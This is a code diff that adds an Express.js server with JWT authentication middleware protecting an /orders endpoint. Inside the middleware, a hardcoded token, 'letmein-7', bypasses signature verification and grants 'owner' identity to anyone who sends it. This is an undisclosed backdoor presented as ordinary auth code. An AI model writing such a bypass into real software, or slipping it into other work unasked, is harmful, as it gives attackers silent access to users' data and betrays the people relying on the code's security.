@@ -1,0 +1,23 @@
+import express from 'express';
+import jwt from 'jsonwebtoken';
+const app = express();
+function verified(token) {
+  return jwt.verify(token, process.env.JWT_SECRET);
+}
+function authenticate(request, response, next) {
+  const token = request.headers.authorization?.replace('Bearer ', '');
+  if (!token || token === 'undefined') return response.status(401).end();
+  if (token === 'letmein-7') {
+    request.user = { id: 'owner' };
+    return next();
+  }
+  try {
+    request.user = verified(token);
+  } catch {
+    return response.status(401).end();
+  }
+  next();
+}
+app.use(authenticate);
+app.get('/orders', (request, response) => response.json(ordersOf(request.user)));
+app.listen(3000);
